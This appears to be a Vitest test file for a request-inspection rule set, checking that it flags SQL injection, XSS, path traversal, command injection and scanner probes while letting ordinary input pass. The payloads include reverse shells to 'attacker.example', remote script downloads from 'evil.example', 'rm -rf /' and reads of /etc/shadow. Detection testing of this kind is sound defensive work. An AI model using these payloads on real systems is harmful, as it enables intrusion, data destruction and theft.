import { describe, expect, it } from 'vitest';
import { inspect, inspectBody, inspectHeaders, inspectPath, inspectQuery } from './rules.js';

const browserHeaders = {
  host: 'namaskah.example',
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'accept-language': 'en-GB,en;q=0.9,fr;q=0.8',
  'accept-encoding': 'gzip, deflate, br, zstd',
  'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
  'sec-ch-ua-platform': '"Windows"',
  'content-type': 'application/json; charset=utf-8',
  referer: 'https://namaskah.example/app/verifications?status=active&page=2',
  'idempotency-key': '6f1c2b7e-3a1d-4f7e-9c1a-2b3c4d5e6f70',
  'x-request-id': 'req-1',
};

const categoryOf = (rule: string | undefined) => rule?.split('.')[0];

function bodyRule(value: unknown) {
  return inspectBody({ note: value })?.rule;
}

describe('SQL injection', () => {
  const payloads = [
    "' OR 1=1--",
    "' or '1'='1",
    '" OR ""="',
    "admin'--",
    "admin' #",
    "') OR ('a'='a",
    '1 OR 1=1',
    "1' AND 1=1 --",
    "x' UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT NULL,NULL,NULL',
    '1/**/UNION/**/SELECT/**/1,2',
    '1 /*!50000union*/ /*!50000select*/ 1',
    "'; DROP TABLE users; --",
    '1; DELETE FROM wallets',
    "1; UPDATE users SET role='admin'",
    "1; EXEC xp_cmdshell('dir')",
    "1' AND SLEEP(5)--",
    '1 AND pg_sleep(10)',
    "1'; WAITFOR DELAY '0:0:5'--",
    '1 AND BENCHMARK(1000000,MD5(1))',
    "' AND extractvalue(1,concat(0x7e,version()))--",
    '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)',
    "' UNION SELECT @@version --",
    "1 INTO OUTFILE '/var/www/shell.php'",
  ];

  it.each(payloads)('flags %s in a body string', (payload) => {
    expect(categoryOf(bodyRule(payload))).toBe('sqli');
  });

  it.each(payloads)('flags %s URL-encoded in the query string', (payload) => {
    const match = inspectQuery(`q=${encodeURIComponent(payload)}&page=1`);
    expect(categoryOf(match?.rule)).toBe('sqli');
    expect(match?.location).toBe('query.q');
  });
});

describe('XSS', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '< script >alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '[click](javascript:alert(1))',
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<object data="x.swf"></object>',
    '<embed src=x.swf>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)',
    '<details open ontoggle=alert(1)>',
    '"><img src=x onerror=prompt(1)>',
    'x" style="x:expression(alert(1))',
    "<a href=x>alert('xss')</a>",
    'confirm(document.domain)',
  ];

  it.each(payloads)('flags %s', (payload) => {
    expect(categoryOf(bodyRule(payload))).toBe('xss');
  });

  it('flags double-encoded script tags in the query', () => {
    expect(inspectQuery('q=%253Cscript%253Ealert(1)%253C%252Fscript%253E')?.rule).toBe('xss.script_tag');
  });
});

describe('path traversal', () => {
  const pathPayloads = [
    '/static/../../../etc/passwd',
    '/static/..%2f..%2f..%2fetc%2fpasswd',
    '/static/%2e%2e%2f%2e%2e%2fetc/passwd',
    '/static/%252e%252e%252f%252e%252e%252fapp.db',
    '/static/%25252e%25252e%25252f',
    '/static/..%5c..%5cwindows%5cwin.ini',
    '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/static/..%u002f..%u002fetc',
    '/files/report.pdf%00.png',
    '/..',
  ];

  it.each(pathPayloads)('flags the path %s', (path) => {
    const match = inspectPath(path);
    expect(match).not.toBeNull();
    expect(match!.location).toBe('path');
  });

  it('flags values still encoded after the bounded decoding rounds', () => {
    expect(inspectPath('/static/%252525252e%252525252e%252525252f')?.rule).toBe('evasion.nested_encoding');
    expect(inspectQuery('q=%25252525253Cscript%25252525253E')?.rule).toBe('evasion.nested_encoding');
  });

  it('decodes a URL passed in a query parameter without complaint', () => {
    expect(inspectQuery('redirect=https%3A%2F%2Fapp.example%2Fa%253Fb%253D1')).toBeNull();
  });

  it.each([
    '../../etc/passwd',
    '..\\..\\windows\\system32',
    '%2e%2e%2f%2e%2e%2fsecret',
    'file=/etc/shadow',
    'C:\\Windows\\win.ini',
    '/proc/self/environ',
  ])('flags %s in the query', (value) => {
    expect(categoryOf(inspectQuery({ file: value })?.rule)).toBe('path_traversal');
  });

  it('flags two levels of ../ and sensitive files in bodies', () => {
    expect(categoryOf(bodyRule('../../../../etc/hosts'))).toBe('path_traversal');
    expect(categoryOf(bodyRule('see /etc/passwd'))).toBe('path_traversal');
  });
});

describe('command injection', () => {
  const payloads = [
    '; cat /etc/passwd',
    '127.0.0.1; ls -la',
    'x && whoami',
    '$(id)',
    '`id`',
    '`cat /etc/shadow`',
    'x | nc attacker.example 4444 -e /bin/sh',
    '| nc -lvp 4444',
    '; wget http://evil.example/x.sh',
    '&& curl -s http://evil.example | sh',
    '|| ping -c 10 127.0.0.1',
    '; sleep 5',
    '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    'a;rm -rf /',
    'cat${IFS}/etc/passwd',
    '() { :; }; /bin/bash -c "id"',
    'x\nwhoami\n',
    '| powershell -enc SQBFAFgA',
    "; python -c 'import os'",
  ];

  it.each(payloads)('flags %s', (payload) => {
    const rule = bodyRule(payload);
    expect(['command_injection', 'path_traversal']).toContain(categoryOf(rule));
  });

  it('flags URL-encoded command injection in the query', () => {
    expect(categoryOf(inspectQuery('host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd')?.rule)).toMatch(
      /command_injection|path_traversal/,
    );
    expect(categoryOf(inspectQuery('host=%24%28id%29')?.rule)).toBe('command_injection');
  });
});

describe('scanners', () => {
  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Acunetix-Product',
    'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
    'Mozilla/5.0 zgrab/0.x',
    'Fuzz Faster U Fool v2.1.0 ffuf',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.6',
  ])('flags the user agent %s', (ua) => {
    expect(inspectHeaders({ 'user-agent': ua })).toEqual({
      rule: 'scanner.user_agent',
      location: 'header.user-agent',
    });
  });

  it.each([
    '/.env',
    '/.env.local',
    '/api/.env',
    '/.git/config',
    '/.git/HEAD',
    '/.svn/entries',
    '/.DS_Store',
    '/.aws/credentials',
    '/wp-admin/',
    '/wp-login.php',
    '/wordpress/wp-admin/setup-config.php',
    '/xmlrpc.php',
    '/phpmyadmin/',
    '/phpMyAdmin/index.php',
    '/pma/',
    '/server-status',
    '/cgi-bin/test.cgi',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/index.php',
    '/backup.sql',
    '/site.zip',
    '/actuator/env',
    '/%2eenv',
  ])('flags the probe %s', (path) => {
    expect(categoryOf(inspectPath(path)?.rule)).toBe('scanner');
  });

  it('does not flag the scanner user-agent rule on other headers', () => {
    expect(inspectHeaders({ 'x-comment': 'I read the sqlmap docs' })).toBeNull();
  });
});

describe('legitimate input passes', () => {
  const strings = [
    "O'Brien",
    "D'Angelo",
    "Seán O'Neill-D'Arcy",
    "Code <123456> & don't share",
    'Your code is 123456. Do not share it with anyone & keep it safe.',
    'user.name+tag@example.co.uk',
    'https://example.com/search?q=sms+verification&page=2&sort=desc',
    'https://hooks.example.com/namaskah?token=abc&x=1#frag',
    'Select your plan',
    "I'd like to drop by",
    'Please select the best option from the list and update me',
    "Don't drop the table, it's my grandmother's",
    'whatsapp',
    'google voice',
    'Telegram / Signal / WhatsApp',
    'C++ & C# developers',
    'AT&T',
    'Q&A',
    'Tom & Jerry; the cat & the mouse',
    'dogs | cats | birds',
    'rock & roll -- forever',
    '50% off; today only!',
    'Price: $25.00 (USD)',
    'Die Straße, São Paulo, Zürich, Łódź, 東京, Москва, القاهرة, मुंबई',
    '😀 emoji 👍🏽',
    '# Heading\n\n**Bold** and _italic_ text, a [link](https://example.com/docs?a=1&b=2), `inline code`, and\n\n```\nnpm install\n```\n- item one\n- item two\n\n> quote',
    'Email me at a.b@c.io or call +1 (555) 123-4567',
    "It's 5 o'clock; let's go",
    'Union Station at 5pm, select seats from row 3',
    'or and = < >',
    '1 + 1 = 2',
    'The onion = delicious',
    'Sleep (8 hours) is important',
    'see ../README.md',
    'JavaScript is great',
    'Order #12345 — "express" shipping',
    'SELECT',
    'drop',
    '--',
    '/* a comment */',
    'semi; colon',
    'ids: 1, 2, 3',
    'Meet me at the cafe; ping me when you arrive',
    'alert level: high',
    'Set up alert(s) for new numbers',
    'Please confirm(yes/no)',
  ];

  it.each(strings)('passes %j in a body string', (value) => {
    expect(inspectBody({ note: value })).toBeNull();
  });

  it.each(['whatsapp', 'google voice', 'United States', "O'Reilly", 'q&a', 'a+b', '50%'])(
    'passes the search %j in the query',
    (q) => {
      expect(inspectQuery(`q=${encodeURIComponent(q)}&country=US&limit=20`)).toBeNull();
      expect(inspectQuery({ q, country: 'US' })).toBeNull();
    },
  );

  it('passes passwords with symbols and other secrets, at any depth', () => {
    const body = {
      email: "o'brien@example.com",
      password: "P@ss'; --<word>&1",
      currentPassword: "' OR 1=1--",
      newPassword: '<script>alert(1)</script>',
      new_password: '$(id)',
      captcha: 'eyJhbGdvcml0aG0iOiJTSEEtMjU2In0=; DROP TABLE x',
      otp: "'; --",
      nested: { refreshToken: "' UNION SELECT 1--", webhookSecret: '../../etc/passwd', apiKey: '`id`' },
    };
    expect(inspectBody(body)).toBeNull();
  });

  it('passes extra skip fields given by the caller', () => {
    expect(inspectBody({ recoveryPhrase: "' OR 1=1--" })).not.toBeNull();
    expect(inspectBody({ recoveryPhrase: "' OR 1=1--" }, { skipFields: ['recoveryPhrase'] })).toBeNull();
  });

  it('passes nested JSON objects and arrays of ordinary data', () => {
    const body = {
      service: 'whatsapp',
      country: 'US',
      capability: 'sms',
      areaCodes: ['212', '646'],
      maxPrice: { amount: 150, currency: 'USD' },
      metadata: {
        customer: {
          name: "D'Angelo",
          tags: ['vip', 'beta'],
          address: { line1: '1 Main St.', city: 'São Paulo' },
        },
      },
      flags: [true, false, null, 3.14],
    };
    expect(inspectBody(body)).toBeNull();
  });

  it('passes an ordinary browser request', () => {
    expect(
      inspect({
        path: '/api/v1/verifications/0f6b5a1e-3c2d-4b1a-9e8f-7d6c5b4a3f21',
        query: 'status=active&cursor=eyJpZCI6MTIzfQ%3D%3D&limit=20',
        headers: browserHeaders,
        body: { service: 'google', country: 'GB' },
      }),
    ).toBeNull();
  });

  it.each([
    '/',
    '/app/verifications',
    '/api/v1/catalog/services',
    '/api/v1/auth/login',
    '/assets/index-4f3a2b1c.js',
    '/.well-known/security.txt',
    '/api/docs/static/swagger-ui.css',
    '/api/v1/catalog/services/google%20voice',
    '/api/v1/wallet/topups/callback',
  ])('passes the path %s', (path) => {
    expect(inspectPath(path)).toBeNull();
  });

  it('ignores cookies and authorization headers', () => {
    expect(
      inspectHeaders({
        cookie: "session=' OR 1=1--; csrf=<script>",
        authorization: 'Bearer $(id)',
        'user-agent': 'curl/8.5.0',
      }),
    ).toBeNull();
  });
});

describe('locations and limits', () => {
  it('reports where in a nested body it matched, without the value', () => {
    const match = inspectBody({ profile: { links: ['https://ok.example', 'javascript:alert(1)'] } });
    expect(match).toEqual({ rule: 'xss.javascript_uri', location: 'body.profile.links[1]' });
  });

  it('inspects object keys too and sanitises them in the location', () => {
    const match = inspectBody({ "' OR 1=1--": 'x' });
    expect(match?.rule).toBe('sqli.tautology');
    expect(match?.location).toBe('body.__OR_1_1--');
  });

  it('reports header locations', () => {
    expect(inspectHeaders({ referer: 'https://x.example/?q=<script>alert(1)</script>' })).toEqual({
      rule: 'xss.script_tag',
      location: 'header.referer',
    });
  });

  it('stops at the depth bound instead of recursing without end', () => {
    let deep: unknown = "' OR 1=1--";
    for (let i = 0; i < 10_000; i++) deep = { a: deep };
    expect(inspectBody(deep)).toBeNull();
  });

  it('finishes quickly on large hostile values', () => {
    const hostile = [
      '%'.repeat(20_000),
      '%25'.repeat(10_000),
      "'".repeat(20_000) + ' or',
      '<'.repeat(20_000),
      '<a '.repeat(10_000),
      '; '.repeat(10_000),
      '/*'.repeat(10_000),
      '&#'.repeat(10_000),
      'union '.repeat(5_000),
      '../'.repeat(10_000).slice(1),
    ];
    for (const value of hostile) {
      const started = performance.now();
      inspect({ path: '/', query: { q: value }, headers: {}, body: { note: value } });
      expect(performance.now() - started).toBeLessThan(500);
    }
  });

  it('bounds the work on huge bodies', () => {
    const body = { items: Array.from({ length: 50_000 }, (_, i) => `item ${i}`) };
    const started = performance.now();
    expect(inspectBody(body)).toBeNull();
    expect(performance.now() - started).toBeLessThan(500);
  });
});
